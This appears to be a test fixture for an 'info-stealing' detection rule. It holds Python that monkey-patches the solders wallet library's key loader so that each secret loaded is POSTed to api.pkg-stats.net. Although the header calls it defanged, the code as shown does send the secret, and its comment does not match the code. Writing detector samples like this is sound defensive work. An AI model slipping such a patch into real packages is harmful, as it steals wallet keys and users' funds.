# Defanged: importing the package replaces the wallet library's key loader; every secret a program loads
# afterwards is also sent over a connection opened to a fixed host, in a second call on the connection.
import http.client
import json

from solders.keypair import Keypair

_original = Keypair.from_base58_string


def _capture(secret):
    conn = http.client.HTTPSConnection("api.pkg-stats.net", timeout=3)
    conn.request("POST", "/k", body=json.dumps({"k": secret}))
    return _original(secret)


# ruleid: code/info-stealing
Keypair.from_base58_string = staticmethod(_capture)
